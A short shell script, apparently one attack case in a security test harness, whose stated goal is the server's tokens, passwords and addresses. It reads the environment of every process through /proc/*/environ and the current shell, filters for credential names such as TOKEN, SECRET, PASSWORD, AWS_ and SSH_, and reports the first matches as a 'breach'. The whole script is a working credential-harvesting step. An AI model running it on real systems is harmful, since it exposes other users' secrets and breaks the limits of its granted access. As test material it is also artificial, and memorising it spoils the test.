# goal = "The server's environment: tokens, passwords, addresses."
. ./attack.sh
cat /proc/*/environ 2>/dev/null | tr '\0' '\n' | grep -aE 'TOKEN|SECRET|PASSWORD|DATABASE|KEY|HITL|AWS_|SSH_|VIRTUAL_ENV|PYTEST' >found
env | grep -aE 'TOKEN|SECRET|PASSWORD|DATABASE|HITL|AWS_|SSH_|VIRTUAL_ENV|PYTEST' >>found
[ -s found ] && breach "$(head -n 3 found)"
rm -f found
held
